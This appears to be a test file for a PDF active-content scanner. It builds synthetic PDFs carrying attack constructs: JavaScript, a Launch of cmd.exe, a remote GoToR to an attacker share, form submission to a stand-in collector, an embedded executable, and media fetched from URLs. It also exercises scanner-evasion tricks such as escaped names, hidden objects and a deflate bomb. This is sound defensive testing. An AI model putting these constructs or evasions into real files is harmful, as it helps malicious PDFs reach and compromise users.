import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { checkPdf, findActiveContent } from './pdf-check.ts';
import { pdfkitPdf } from '../test/pdf.ts';

/**
 * A PDF from its objects (numbered from 1; 1 is the catalog, 2 the page tree, 3 the page), written with a classic
 * cross-reference table, or, with `objectStream`, with every object that is no stream compressed into an object
 * stream (FlateDecode) found through a cross-reference stream, as PDF 1.5 writers do.
 */
function buildPdf(objects: string[], options: { objectStream?: boolean } = {}): Buffer {
  const isStream = (object: string) => /\bstream\b/.test(object);
  const packed = options.objectStream
    ? objects.map((object, index) => (isStream(object) ? -1 : index)).filter((index) => index >= 0)
    : [];
  let body = '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n';
  const offsets = new Map<number, number>();
  objects.forEach((object, index) => {
    if (packed.includes(index)) return;
    offsets.set(index + 1, body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  if (!options.objectStream) {
    const xref = body.length;
    body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    for (let number = 1; number <= objects.length; number += 1)
      body += `${String(offsets.get(number)).padStart(10, '0')} 00000 n \n`;
    body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
    return Buffer.from(body, 'latin1');
  }
  const streamNumber = objects.length + 1;
  const xrefNumber = objects.length + 2;
  let header = '';
  let content = '';
  for (const index of packed) {
    header += `${index + 1} ${content.length} `;
    content += `${objects[index]}\n`;
  }
  const data = deflateSync(Buffer.from(header + content, 'latin1'));
  offsets.set(streamNumber, body.length);
  const head = Buffer.from(
    body +
      `${streamNumber} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    'latin1',
  );
  const afterStream = Buffer.from('\nendstream\nendobj\n', 'latin1');
  const xrefOffset = head.length + data.length + afterStream.length;
  const rows: Buffer[] = [];
  const row = (type: number, field2: number, field3: number) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field2, 1);
    bytes.writeUInt16BE(field3, 5);
    rows.push(bytes);
  };
  row(0, 0, 65535);
  for (let number = 1; number <= objects.length; number += 1) {
    const index = packed.indexOf(number - 1);
    if (index >= 0) row(2, streamNumber, index);
    else row(1, offsets.get(number)!, 0);
  }
  row(1, offsets.get(streamNumber)!, 0);
  row(1, xrefOffset, 0);
  const table = Buffer.concat(rows);
  const xref = Buffer.from(
    `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`,
    'latin1',
  );
  return Buffer.concat([
    head,
    data,
    afterStream,
    xref,
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  ]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${extra} >>`;
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`;
const stream = (dict: string, data: string) => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;

/** The ten kinds of active content the issue names, and media, each the way a real attack file carries it. */
const ACTIVE: Record<string, string[]> = {
  'document JavaScript': [
    '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>',
    PAGES,
    page(),
    '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  ],
  'an open action': ['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, page(), '<< /S /Named /N /Print >>'],
  'additional actions': ['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page('/AA << /O << /S /Named /N /Print >> >>')],
  'a Launch action': ['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page('/Annots [4 0 R]'), link('<< /S /Launch /F (cmd.exe) >>')],
  'a URI action': [
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page('/Annots [4 0 R]'),
    link('<< /S /URI /URI (https://phish.example/login) >>'),
  ],
  'an embedded file': [
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> >>',
    PAGES,
    page(),
    '<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>',
    stream('/Type /EmbeddedFile', 'MZ this would be a program'),
  ],
  'an XFA form': [
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
    PAGES,
    page(),
    stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'),
  ],
  'rich media': [
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page('/Annots [4 0 R]'),
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
  ],
  'a GoToR or GoToE action': [
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page('/Annots [4 0 R 5 0 R]'),
    link('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
    link('<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'),
  ],
  'a SubmitForm or ImportData action': [
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>',
    PAGES,
    page('/Annots [4 0 R 5 0 R]'),
    link('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>'),
    link('<< /S /ImportData /F (data.fdf) >>'),
  ],
  'media fetched from a URL': [
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page('/Annots [4 0 R]'),
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (https://track.example/a.mp4) >> >> >> >> >>',
  ],
};

/** Every name written with its second letter as a `#xx` escape (`/Type` as `/T#79pe`): readers decode them. */
const escapeNames = (objects: string[]) =>
  objects.map((object) =>
    object.replace(
      /\/([A-Za-z])([A-Za-z])/g,
      (_, first: string, second: string) => `/${first}#${second.charCodeAt(0).toString(16)}`,
    ),
  );

const PLAIN = ['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page()];

describe('checkPdf: active content', () => {
  it('reads the test PDFs: without active content each of the three forms is safe', async () => {
    expect(await checkPdf(buildPdf(PLAIN))).toBe('safe');
    expect(await checkPdf(buildPdf(escapeNames(PLAIN)))).toBe('safe');
    expect(await checkPdf(buildPdf(PLAIN, { objectStream: true }))).toBe('safe');
  });

  it.each(Object.entries(ACTIVE))('refuses %s: plain, with escaped names, and inside an object stream', async (_, objects) => {
    expect(await checkPdf(buildPdf(objects))).toBe('active_content');
    expect(await checkPdf(buildPdf(escapeNames(objects)))).toBe('active_content');
    expect(await checkPdf(buildPdf(objects, { objectStream: true }))).toBe('active_content');
    expect(await checkPdf(buildPdf(escapeNames(objects), { objectStream: true }))).toBe('active_content');
  });

  it('finds an object the cross-reference table points to inside another stream’s data', async () => {
    const hidden = '6 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj';
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      page('/Annots [4 0 R]'),
      link('6 0 R'),
      stream('/Subtype /Image', hidden),
      '<< >>',
    ];
    const text = buildPdf(objects).toString('latin1');
    expect(findActiveContent(Buffer.from(text.replace(hidden, ' '.repeat(hidden.length)), 'latin1'))).toEqual([]);
    // Object 6's entry in the table (20 bytes each) is pointed into object 5's data.
    const entry = text.lastIndexOf('xref\n0 7\n') + 'xref\n0 7\n'.length + 20 * 6;
    const moved = text.slice(0, entry) + String(text.indexOf(hidden)).padStart(10, '0') + text.slice(entry + 10);
    expect(findActiveContent(Buffer.from(moved, 'latin1'))).toEqual(expect.arrayContaining(['JavaScript', 'JS']));
    // Comments between the header's tokens, which readers skip.
    const commented = moved.replace('6 0 obj', '6%a\n0 % b\robj');
    expect(findActiveContent(Buffer.from(commented, 'latin1'))).toEqual(expect.arrayContaining(['JavaScript', 'JS']));
  });

  it('refuses an open action through a reference unless what it names is a destination', async () => {
    const toPage = ['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, page(), '[3 0 R /Fit]'];
    expect(await checkPdf(buildPdf(toPage))).toBe('safe');
    expect(await checkPdf(buildPdf(toPage, { objectStream: true }))).toBe('safe');
    const missing = ['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', PAGES, page()];
    expect(await checkPdf(buildPdf(missing))).toBe('active_content');
  });

  it('does not count active names in strings, nor an open action that only shows a page', async () => {
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>',
      PAGES,
      page('/Annots [4 0 R]'),
      link('<< /S /GoTo /D [3 0 R /Fit] >>'),
      '<< /Title (How /JavaScript and /URI work) /Subject <2f4a53> >>',
    ];
    expect(await checkPdf(buildPdf(objects))).toBe('safe');
    expect(await checkPdf(buildPdf(objects, { objectStream: true }))).toBe('safe');
  });

  it('refuses object streams it cannot read: an unknown filter, encryption, a deflate bomb', async () => {
    const lzw = buildPdf(PLAIN, { objectStream: true });
    const renamed = Buffer.from(lzw.toString('latin1').replace('/Filter /FlateDecode', '/Filter /LZWDecode  '), 'latin1');
    expect(findActiveContent(renamed)).toBe('unreadable');
    expect(await checkPdf(renamed)).toBe('invalid');

    const encrypted = Buffer.from(lzw.toString('latin1').replace('/Type /XRef', '/Encrypt 9 0 R /Type /XRef'), 'latin1');
    expect(findActiveContent(encrypted)).toBe('unreadable');

    const bomb = deflateSync(Buffer.alloc(65 * 1024 * 1024, 0x20), { level: 1 });
    const bombPdf = Buffer.concat([
      Buffer.from(
        `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
        'latin1',
      ),
      bomb,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
    ]);
    expect(findActiveContent(bombPdf)).toBe('unreadable');
  });

  it('finds document JavaScript however its names are escaped, plain or in an object stream', () => {
    const objects = ACTIVE['document JavaScript']!;
    fc.assert(
      fc.property(fc.array(fc.boolean(), { minLength: 1, maxLength: 16 }), fc.boolean(), (mask, objectStream) => {
        let at = 0;
        const escaped = objects.map((object) =>
          object.replace(
            /\/([A-Za-z]+)/g,
            (_, name: string) =>
              `/${[...name].map((c) => (mask[at++ % mask.length] ? `#${c.charCodeAt(0).toString(16)}` : c)).join('')}`,
          ),
        );
        expect(findActiveContent(buildPdf(escaped, { objectStream }))).toEqual(expect.arrayContaining(['JavaScript', 'JS']));
      }),
    );
  });

  it('answers for damaged and truncated files without throwing', () => {
    const base = buildPdf(ACTIVE['an embedded file']!, { objectStream: true });
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 24 }), fc.nat(), (changes, cut) => {
        const bytes = Buffer.from(base);
        for (const [at, byte] of changes) bytes[at % bytes.length] = byte;
        const result = findActiveContent(bytes.subarray(0, bytes.length - (cut % bytes.length)));
        expect(result === 'unreadable' || Array.isArray(result)).toBe(true);
      }),
    );
  });

  it('refuses %PDF followed by HTML or script, and garbage', async () => {
    expect(await checkPdf(Buffer.from('%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>'))).toBe(
      'invalid',
    );
    expect(await checkPdf(Buffer.from('%PDF-1.4\n<script>fetch("/api/me")</script>'))).toBe('invalid');
    expect(await checkPdf(Buffer.from('%PDF-1.4\nthis is not a document at all'))).toBe('invalid');
  });
});

describe('checkPdf: ordinary documents', () => {
  it('passes a pdfkit text PDF', async () => {
    expect(await checkPdf(await pdfkitPdf((doc) => doc.text('Passport scan')))).toBe('safe');
  });

  it('passes a scanned document: a page-sized photo whose compressed bytes are noise', async () => {
    const scan = await sharp({
      create: {
        width: 1240,
        height: 1754,
        channels: 3,
        background: '#f4f1ea',
        noise: { type: 'gaussian', mean: 200, sigma: 60 },
      },
    })
      .jpeg({ quality: 85 })
      .toBuffer();
    const pdf = await pdfkitPdf((doc) => doc.image(scan, 0, 0, { width: 595.28 }));
    expect(pdf.length).toBeGreaterThan(500_000);
    expect(await checkPdf(pdf)).toBe('safe');
  });
});
